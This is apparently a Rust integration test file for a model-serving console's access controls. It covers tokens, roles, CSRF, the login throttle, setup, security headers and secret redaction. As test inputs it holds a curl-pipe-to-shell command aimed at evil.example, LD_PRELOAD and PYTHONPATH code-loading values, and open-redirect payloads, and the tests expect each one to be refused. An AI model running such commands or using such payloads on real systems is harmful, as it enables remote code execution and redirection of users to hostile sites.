//! Who may do what, through the whole router on a real SQLite file: tokens, roles, browser sessions with
//! their CSRF token, sign-in with its throttle, setup, and the security headers.

use crate::testing::{TestApp, ADMIN, ADMIN_PASSWORD, MAJIN};
use axum::body::Body;
use axum::http::{header, HeaderMap, Method, Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{json, Value};

/// A browser: it keeps the session cookie the server sets and sends it back.
struct Browser<'a> {
    app: &'a TestApp,
    cookie: Option<String>,
}

/// What the server answered: the status, the headers and the body as text.
struct Answer {
    status: StatusCode,
    headers: HeaderMap,
    body: String,
}

impl Answer {
    fn location(&self) -> &str {
        self.headers
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
    }

    /// The page's CSRF token, from its `<meta name="csrf-token">`.
    fn csrf(&self) -> String {
        let at = self
            .body
            .find(r#"<meta name="csrf-token" content=""#)
            .expect("the page carries its CSRF token");
        let rest = &self.body[at + r#"<meta name="csrf-token" content=""#.len()..];
        rest[..rest.find('"').unwrap()].to_owned()
    }
}

impl<'a> Browser<'a> {
    fn new(app: &'a TestApp) -> Browser<'a> {
        Browser { app, cookie: None }
    }

    async fn send(&mut self, mut request: Request<Body>) -> Answer {
        if let Some(cookie) = &self.cookie {
            request
                .headers_mut()
                .insert(header::COOKIE, cookie.parse().unwrap());
        }
        let response = self.app.send(request).await;
        if let Some(set) = response.headers().get(header::SET_COOKIE) {
            let pair = set.to_str().unwrap().split(';').next().unwrap().to_owned();
            self.cookie = Some(pair);
        }
        let status = response.status();
        let headers = response.headers().clone();
        let body = response.into_body().collect().await.unwrap().to_bytes();
        Answer {
            status,
            headers,
            body: String::from_utf8_lossy(&body).into_owned(),
        }
    }

    async fn get(&mut self, uri: &str) -> Answer {
        self.send(Request::get(uri).body(Body::empty()).unwrap())
            .await
    }

    async fn post_form(&mut self, uri: &str, fields: &[(&str, &str)]) -> Answer {
        let body: Vec<String> = fields
            .iter()
            .map(|(k, v)| format!("{k}={}", super::percent_encode(v)))
            .collect();
        self.send(
            Request::post(uri)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(body.join("&")))
                .unwrap(),
        )
        .await
    }

    async fn post_json(&mut self, uri: &str, body: Value, csrf: Option<&str>) -> Answer {
        let mut request = Request::post(uri).header(header::CONTENT_TYPE, "application/json");
        if let Some(token) = csrf {
            request = request.header(app::auth::CSRF_HEADER, token);
        }
        self.send(request.body(Body::from(body.to_string())).unwrap())
            .await
    }

    /// Signs in through the form, as a person does; answers the signed-in page's CSRF token.
    async fn sign_in(&mut self, name: &str, password: &str) -> Answer {
        let form = self.get("/login").await;
        assert_eq!(form.status, StatusCode::OK);
        let csrf = form.csrf();
        self.post_form(
            "/login",
            &[
                ("name", name),
                ("password", password),
                ("csrf", &csrf),
                ("next", "/nodes"),
            ],
        )
        .await
    }
}

/// A second account with `role`, and its token.
async fn account(app: &TestApp, name: &str, role: &str) -> String {
    let (status, body) = app
        .call(
            Method::POST,
            "/api/users",
            Some(&json!({"name": name, "role": role, "password": "twelve chars!"}).to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, token) = app
        .call(
            Method::POST,
            "/api/tokens",
            Some(&json!({"name": "script", "user": name}).to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{token}");
    token["secret"].as_str().unwrap().to_owned()
}

const WORKER: &str = r#"{"name": "listen", "requested_resources": {"gpu_requests": {"count": 1, "shared": true, "memory_gb": 2}}}"#;

#[tokio::test]
async fn a_write_without_a_session_or_token_gets_401_and_changes_nothing() {
    let app = TestApp::new(MAJIN).await;
    let (status, body) = app
        .call_with(None, Method::POST, "/api/workers", Some(WORKER))
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    assert_eq!(
        body["error"],
        "sign in, or send an API token as Authorization: Bearer tsr_…"
    );
    let (status, _) = app
        .call_with(None, Method::GET, "/api/machines", None)
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "reads need a caller too");
    let (status, _) = app.call_with(None, Method::GET, "/metrics", None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let (status, _) = app.call_with(None, Method::GET, "/api/health", None).await;
    assert_eq!(status, StatusCode::OK, "health is open");
    let (_, workers) = app.get("/api/workers").await;
    assert_eq!(workers, json!([]));
}

#[tokio::test]
async fn a_viewer_reads_and_its_writes_get_403() {
    let app = TestApp::new(MAJIN).await;
    let viewer = account(&app, "vera", "viewer").await;
    let (status, _) = app
        .call_with(Some(&viewer), Method::GET, "/api/machines", None)
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, body) = app
        .call_with(Some(&viewer), Method::POST, "/api/workers", Some(WORKER))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(
        body["error"],
        "vera is a viewer: this needs the operator role"
    );
    let (status, _) = app
        .call_with(Some(&viewer), Method::GET, "/api/users", None)
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "accounts are for admins");
    // Server functions check their own role.
    let request = Request::post("/rpc/remove_model")
        .header(header::CONTENT_TYPE, "application/json")
        .header(header::AUTHORIZATION, format!("Bearer {viewer}"))
        .body(Body::from(r#"{"model": "x", "revision": 1}"#))
        .unwrap();
    assert_eq!(app.send(request).await.status(), StatusCode::FORBIDDEN);

    let operator = account(&app, "otto", "operator").await;
    let (status, body) = app
        .call_with(Some(&operator), Method::POST, "/api/workers", Some(WORKER))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (_, log) = app.get("/api/audit?action=worker").await;
    assert_eq!(log[0]["actor"], "otto");
    assert_eq!(log[0]["target"], "listen");
}

#[tokio::test]
async fn a_revoked_or_unknown_token_gets_401() {
    let app = TestApp::new(MAJIN).await;
    let secret = account(&app, "otto", "operator").await;
    let (_, tokens) = app.get("/api/tokens").await;
    let id = tokens
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["user"] == "otto")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    assert!(
        tokens.to_string().find(&secret).is_none(),
        "a secret is never listed"
    );
    let (status, _) = app
        .call(Method::DELETE, &format!("/api/tokens/{id}"), None)
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, body) = app
        .call_with(Some(&secret), Method::GET, "/api/machines", None)
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
    let (status, _) = app
        .call_with(Some("tsr_0000"), Method::GET, "/api/machines", None)
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let basic = Request::get("/api/machines")
        .header(header::AUTHORIZATION, "Basic YWRhOnBhc3N3b3Jk")
        .body(Body::empty())
        .unwrap();
    assert_eq!(app.send(basic).await.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn a_browser_change_without_the_csrf_token_gets_403() {
    let app = TestApp::new(MAJIN).await;
    let mut browser = Browser::new(&app);
    let signed_in = browser.sign_in(ADMIN, ADMIN_PASSWORD).await;
    assert_eq!(signed_in.status, StatusCode::SEE_OTHER);
    assert_eq!(signed_in.location(), "/nodes");
    let cookie = signed_in
        .headers
        .get(header::SET_COOKIE)
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned();
    assert!(cookie.contains("HttpOnly"), "{cookie}");
    assert!(cookie.contains("SameSite=Lax"), "{cookie}");

    let page = browser.get("/nodes").await;
    assert_eq!(page.status, StatusCode::OK);
    let csrf = page.csrf();
    let deploy = json!({"name": "listen", "requested_resources": {"gpu_requests": {"count": 1, "shared": true, "memory_gb": 2}}});
    let refused = browser
        .post_json("/api/workers", deploy.clone(), None)
        .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.body);
    assert!(refused.body.contains("CSRF token"), "{}", refused.body);
    let forged = browser
        .post_json("/api/workers", deploy.clone(), Some("not-the-token"))
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    let rpc = browser
        .post_json(
            "/rpc/remove_model",
            json!({"model": "nothing", "revision": 1}),
            None,
        )
        .await;
    assert_eq!(rpc.status, StatusCode::FORBIDDEN, "server functions too");
    let (_, workers) = app.get("/api/workers").await;
    assert_eq!(workers, json!([]), "nothing changed");

    let made = browser.post_json("/api/workers", deploy, Some(&csrf)).await;
    assert_eq!(made.status, StatusCode::CREATED, "{}", made.body);
    let (_, log) = app.get("/api/audit?target=listen").await;
    assert_eq!(log[0]["actor"], ADMIN);

    let out = browser.post_form("/logout", &[("csrf", &csrf)]).await;
    assert_eq!(out.location(), "/login");
    let after = browser.get("/nodes").await;
    assert_eq!(after.status, StatusCode::SEE_OTHER, "signed out");
}

#[tokio::test]
async fn an_unknown_name_and_a_wrong_password_get_the_same_answer() {
    let app = TestApp::new(MAJIN).await;
    let wrong = Browser::new(&app).sign_in(ADMIN, "not the password").await;
    let unknown = Browser::new(&app)
        .sign_in("nobody", "not the password")
        .await;
    assert_eq!(wrong.status, StatusCode::SEE_OTHER);
    assert_eq!(wrong.location(), "/login?error=wrong&next=/nodes");
    assert_eq!(unknown.location(), wrong.location());
    let page = Browser::new(&app).get(wrong.location()).await;
    assert!(
        page.body.contains("The name or the password is wrong."),
        "{}",
        page.body
    );
}

#[tokio::test]
async fn the_throttle_engages_after_repeated_failures_even_for_the_right_password() {
    let app = TestApp::new(MAJIN).await;
    for _ in 0..5 {
        let failed = Browser::new(&app).sign_in(ADMIN, "guess").await;
        assert_eq!(failed.location(), "/login?error=wrong&next=/nodes");
    }
    let throttled = Browser::new(&app).sign_in(ADMIN, ADMIN_PASSWORD).await;
    assert_eq!(
        throttled.location(),
        "/login?error=throttled&wait=30&next=/nodes"
    );
    let page = Browser::new(&app).get(throttled.location()).await;
    assert!(
        page.body
            .contains("Too many failed sign-ins: wait 30 seconds, then try again."),
        "{}",
        page.body
    );
    // An unknown name is throttled alike, so the throttle gives no name away.
    for _ in 0..5 {
        Browser::new(&app).sign_in("nobody", "guess").await;
    }
    let unknown = Browser::new(&app).sign_in("nobody", "guess").await;
    assert_eq!(
        unknown.location(),
        "/login?error=throttled&wait=30&next=/nodes"
    );
}

#[tokio::test]
async fn a_sign_in_form_without_its_token_does_not_sign_in() {
    let app = TestApp::new(MAJIN).await;
    let mut browser = Browser::new(&app);
    browser.get("/login").await;
    let answer = browser
        .post_form(
            "/login",
            &[
                ("name", ADMIN),
                ("password", ADMIN_PASSWORD),
                ("csrf", "forged"),
            ],
        )
        .await;
    assert_eq!(answer.location(), "/login?error=expired&next=/");
    assert_eq!(browser.get("/").await.status, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn a_page_sends_a_visitor_to_sign_in_and_the_first_start_to_setup() {
    let app = TestApp::new(MAJIN).await;
    let mut visitor = Browser::new(&app);
    let answer = visitor.get("/machines/majin").await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER);
    assert_eq!(answer.location(), "/login?next=/machines/majin");

    sqlx::query("DELETE FROM users")
        .execute(&app.pool)
        .await
        .unwrap();
    let mut first = Browser::new(&app);
    assert_eq!(first.get("/").await.location(), "/setup");
    let setup = first.get("/setup").await;
    assert!(
        setup.body.contains("Make the first admin"),
        "{}",
        setup.body
    );
    let csrf = setup.csrf();
    let mismatch = first
        .post_form(
            "/setup",
            &[
                ("name", "root-admin"),
                ("password", "a long password"),
                ("again", "another one!!"),
                ("csrf", &csrf),
            ],
        )
        .await;
    assert_eq!(mismatch.location(), "/setup?error=mismatch");
    let made = first
        .post_form(
            "/setup",
            &[
                ("name", "root-admin"),
                ("password", "a long password"),
                ("again", "a long password"),
                ("csrf", &csrf),
            ],
        )
        .await;
    assert_eq!(made.location(), "/");
    assert_eq!(
        first.get("/").await.status,
        StatusCode::OK,
        "signed in as the new admin"
    );
    // Once there is an admin, setup makes no other.
    let mut second = Browser::new(&app);
    let csrf = second.get("/setup").await.csrf();
    let again = second
        .post_form(
            "/setup",
            &[
                ("name", "intruder"),
                ("password", "a long password"),
                ("again", "a long password"),
                ("csrf", &csrf),
            ],
        )
        .await;
    assert_eq!(again.location(), "/login");
    let names: Vec<(String,)> = sqlx::query_as("SELECT name FROM users")
        .fetch_all(&app.pool)
        .await
        .unwrap();
    assert_eq!(names, [("root-admin".to_owned(),)]);
}

#[tokio::test]
async fn every_answer_carries_the_security_headers_and_a_page_its_policy() {
    let app = TestApp::new(MAJIN).await;
    let mut browser = Browser::new(&app);
    browser.sign_in(ADMIN, ADMIN_PASSWORD).await;
    let page = browser.get("/nodes").await;
    let policy = page.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    let nonce = page
        .body
        .split("nonce=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the hydration script has a nonce");
    assert!(policy.contains(&format!("'nonce-{nonce}'")), "{policy}");
    assert!(policy.contains("'wasm-unsafe-eval'"), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'"), "{policy}");
    assert!(!policy.contains("unsafe-inline"), "{policy}");
    assert_eq!(page.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(page.headers[header::X_FRAME_OPTIONS], "DENY");
    let json = browser.get("/api/health").await;
    assert_eq!(
        json.headers[header::CONTENT_SECURITY_POLICY],
        "default-src 'none'; frame-ancestors 'none'"
    );
}

#[tokio::test]
async fn a_body_past_the_limit_is_refused_with_413() {
    let app = TestApp::new(MAJIN).await;
    let name = "x".repeat(crate::security::MAX_BODY_BYTES + 1);
    let body = format!(r#"{{"name": "{name}", "requested_resources": {{}}}}"#);
    let (status, answer) = app.call(Method::POST, "/api/workers", Some(&body)).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{answer}");
    assert_eq!(
        answer["error"],
        "the request body is larger than the 256 KiB a request may send"
    );
}

#[tokio::test]
async fn a_burst_of_wrong_passwords_sent_at_once_gets_no_more_tries_than_the_limit() {
    let app = TestApp::new(MAJIN).await;
    let mut browser = Browser::new(&app);
    let csrf = browser.get("/login").await.csrf();
    let cookie = browser.cookie.clone().unwrap();
    let tries = (0..40).map(|_| {
        let request = Request::post("/login")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::COOKIE, &cookie)
            .body(Body::from(format!(
                "name={ADMIN}&password=guess&csrf={csrf}"
            )))
            .unwrap();
        app.send(request)
    });
    let answers = futures::future::join_all(tries).await;
    let checked = answers
        .iter()
        .filter(|a| {
            a.headers()
                .get(header::LOCATION)
                .is_some_and(|l| l.to_str().unwrap().starts_with("/login?error=wrong"))
        })
        .count();
    assert_eq!(checked, 5, "the account's limit of tries, and not one more");
}

#[test]
fn after_signing_in_only_a_plain_path_of_this_console_is_followed() {
    for kept in ["/", "/nodes", "/machines/majin?tab=gpus", "/a%2F%2Fb"] {
        assert_eq!(super::safe_next(kept), kept);
    }
    for other_site in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r/evil.example",
        "/ /evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https://evil.example",
        "evil.example",
        "/\u{a0}/evil.example",
        "",
    ] {
        assert_eq!(super::safe_next(other_site), "/", "{other_site:?}");
    }
}

#[tokio::test]
async fn a_sign_in_with_a_next_that_a_browser_reads_as_another_site_goes_home() {
    let app = TestApp::new(MAJIN).await;
    let mut browser = Browser::new(&app);
    let csrf = browser.get("/login").await.csrf();
    let answer = browser
        .post_form(
            "/login",
            &[
                ("name", ADMIN),
                ("password", ADMIN_PASSWORD),
                ("csrf", &csrf),
                ("next", "/\t/evil.example"),
            ],
        )
        .await;
    assert_eq!(answer.location(), "/");
}

#[tokio::test]
async fn setup_once_an_admin_exists_refuses_before_it_looks_at_the_password() {
    let app = TestApp::new(MAJIN).await;
    // A password no check would pass: refused as taken, so nothing was checked or hashed first.
    let huge = "x".repeat(crate::accounts::MAX_PASSWORD_LEN * 10);
    let refused = crate::accounts::create_first_admin(&app.pool, "mallory", &huge).await;
    assert!(
        matches!(refused, Err(crate::error::ApiError::Conflict(_))),
        "{refused:?}"
    );
    let mut browser = Browser::new(&app);
    let csrf = browser.get("/setup").await.csrf();
    let answer = browser
        .post_form(
            "/setup",
            &[
                ("name", "mallory"),
                ("password", "twelve chars!"),
                ("again", "twelve chars!"),
                ("csrf", &csrf),
            ],
        )
        .await;
    assert_eq!(answer.location(), "/login");
    assert_eq!(crate::accounts::count(&app.pool).await.unwrap(), 1);
}

#[tokio::test]
async fn a_request_to_a_public_path_or_a_visit_sent_to_sign_in_stores_no_session() {
    let app = TestApp::new(MAJIN).await;
    for path in [
        "/api/health",
        "/api/openapi.json",
        "/favicon.svg",
        "/pkg/tessera.css",
        "/nodes",
    ] {
        let answer = Browser::new(&app).get(path).await;
        assert!(
            !answer.headers.contains_key(header::SET_COOKIE),
            "{path}: {:?}",
            answer.headers
        );
    }
    let sessions: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM sessions")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(sessions, 0);
    // The sign-in page does need one, for its form's CSRF token.
    let login = Browser::new(&app).get("/login").await;
    assert!(login.headers.contains_key(header::SET_COOKIE));
}

#[tokio::test]
async fn the_database_holds_a_digest_of_each_session_id_and_never_the_id() {
    let app = TestApp::new(MAJIN).await;
    let mut browser = Browser::new(&app);
    browser.sign_in(ADMIN, ADMIN_PASSWORD).await;
    let cookie = browser.cookie.clone().unwrap();
    let id = cookie.split_once('=').unwrap().1.to_owned();
    let stored: Vec<String> = sqlx::query_scalar("SELECT id FROM sessions")
        .fetch_all(&app.pool)
        .await
        .unwrap();
    assert!(!stored.is_empty());
    assert!(!stored.iter().any(|s| s.contains(&id)), "{stored:?}");
    // And the cookie still signs in.
    assert_eq!(browser.get("/nodes").await.status, StatusCode::OK);
}

#[test]
fn csrf_tokens_match_only_whole_and_exact() {
    assert!(super::same_token("a1b2c3", "a1b2c3"));
    assert!(!super::same_token("a1b2c3", "a1b2c4"));
    assert!(!super::same_token("a1b2c3", "a1b2c"));
    assert!(!super::same_token("a1b2c3", ""));
}

#[tokio::test]
async fn an_operator_may_not_add_a_catalog_recipe_or_give_a_worker_a_command() {
    let app = TestApp::new(MAJIN).await;
    let operator = account(&app, "otto", "operator").await;
    let recipe = json!({"name": "mine", "engine": "command", "default_share_percent": 10,
        "model_path": "m", "command": "sh -c 'curl evil.example | sh' {port}"});
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::POST,
            "/api/models",
            Some(&recipe.to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let with_command = json!({"name": "w", "command": "sh -c id",
        "requested_resources": {"gpu_requests": {"count": 1, "shared": true, "memory_gb": 1}}});
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::POST,
            "/api/workers",
            Some(&with_command.to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body["error"].as_str().unwrap().contains("admin role"),
        "{body}"
    );
    let (_, workers) = app.call(Method::GET, "/api/workers", None).await;
    assert_eq!(workers, json!([]), "nothing was stored");
    let (status, body) = app
        .call_with(Some(&operator), Method::POST, "/api/workers", Some(WORKER))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = app
        .call(Method::POST, "/api/models", Some(&recipe.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "an admin may: {body}");
}

#[tokio::test]
async fn an_operator_may_not_set_a_variable_that_loads_code_and_an_admin_may() {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    let operator = account(&app, "otto", "operator").await;
    for (name, value) in [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("PYTHONPATH", "/tmp"),
        ("PATH", "/tmp"),
    ] {
        let deploy = json!({"model": "vision", "gpus": ["atlas:0"], "env": {name: value}});
        let (status, body) = app
            .call_with(
                Some(&operator),
                Method::POST,
                "/api/deployments",
                Some(&deploy.to_string()),
            )
            .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{name}: {body}");
        assert!(body["error"].as_str().unwrap().contains(name), "{body}");
    }
    let (_, groups) = app.call(Method::GET, "/api/groups", None).await;
    assert_eq!(groups, json!([]), "nothing was deployed");
    let trusting = json!({"model": "vision", "gpus": ["atlas:0"], "args": ["--trust-remote-code"]});
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::POST,
            "/api/deployments",
            Some(&trusting.to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    let deploy =
        json!({"model": "vision", "gpus": ["atlas:0"], "env": {"PYTHONPATH": "/opt/extra"}});
    let (status, body) = app
        .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
}

#[tokio::test]
async fn an_extra_argument_that_overrides_a_flag_tessera_sets_gets_422_naming_the_flag_and_its_field(
) {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    for (model, args, flag, field) in [
        (
            "glm-5.3",
            json!(["--gpu-memory-utilization", "0.95"]),
            "--gpu-memory-utilization",
            "\"share\"",
        ),
        ("glm-5.3", json!(["--host=0.0.0.0"]), "--host", "127.0.0.1"),
        (
            "glm-5.3",
            json!(["--tensor-parallel-size", "8"]),
            "--tensor-parallel-size",
            "\"gpus\"",
        ),
        (
            "vision",
            json!(["--mem-fraction-static", "0.9"]),
            "--mem-fraction-static",
            "\"share\"",
        ),
        ("speech", json!(["--port", "80"]), "--port", "port"),
        ("speech", json!(["-ngl", "99"]), "-ngl", "\"share\""),
        ("embedder", json!(["--port", "80"]), "--port", "port"),
    ] {
        let deploy = json!({"model": model, "gpus": ["atlas:0"], "args": args});
        let (status, body) = app
            .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{model} {args}: {body}"
        );
        let error = body["error"].as_str().unwrap();
        assert!(error.contains(flag) && error.contains(field), "{error}");
    }
    let fine =
        json!({"model": "glm-5.3", "gpus": ["atlas:0"], "args": ["--max-model-len", "8192"]});
    let (status, body) = app
        .call(Method::POST, "/api/deployments", Some(&fine.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = app
        .call(
            Method::PUT,
            "/api/deployments/glm-5.3/serving",
            Some(&json!({"revision": 1, "args": ["--gpu_memory_utilization=0.99"]}).to_string()),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
}

#[tokio::test]
async fn secrets_are_shown_to_admins_only_and_never_written_to_the_audit_log() {
    let app = crate::testing::majin_and_atlas_with_catalog().await;
    let viewer = account(&app, "vera", "viewer").await;
    let operator = account(&app, "otto", "operator").await;
    let deploy = json!({"model": "speech", "gpus": ["atlas:1"], "shared": false,
        "env": {"HF_TOKEN": "hf_deploysecret", "HF_HOME": "/models"}});
    let (status, body) = app
        .call(Method::POST, "/api/deployments", Some(&deploy.to_string()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    for uri in [
        "/api/workers",
        "/api/workers/speech",
        "/api/machines/atlas/workers",
    ] {
        let (_, seen) = app.call_with(Some(&viewer), Method::GET, uri, None).await;
        let text = seen.to_string();
        assert!(!text.contains("hf_deploysecret"), "{uri}: {text}");
        assert!(
            text.contains("(secret)") && text.contains("/models"),
            "{uri}: {text}"
        );
        let (_, seen) = app.call(Method::GET, uri, None).await;
        assert!(
            seen.to_string().contains("hf_deploysecret"),
            "an admin sees it: {uri}"
        );
    }
    // An operator's form sends the secret back as shown: the stored value stays.
    let (status, body) = app
        .call_with(
            Some(&operator),
            Method::PUT,
            "/api/deployments/speech/serving",
            Some(
                &json!({"revision": 1, "env": {"HF_TOKEN": "(secret)", "HF_HOME": "/data"}})
                    .to_string(),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, worker) = app.call(Method::GET, "/api/workers/speech", None).await;
    assert_eq!(worker["env"]["HF_TOKEN"], "hf_deploysecret");
    assert_eq!(worker["env"]["HF_HOME"], "/data");
    let log: String = sqlx::query_scalar(
        "SELECT group_concat(coalesce(before, '') || coalesce(after, '')) FROM audit",
    )
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert!(
        log.contains("HF_HOME") && !log.contains("hf_deploysecret"),
        "{log}"
    );
}
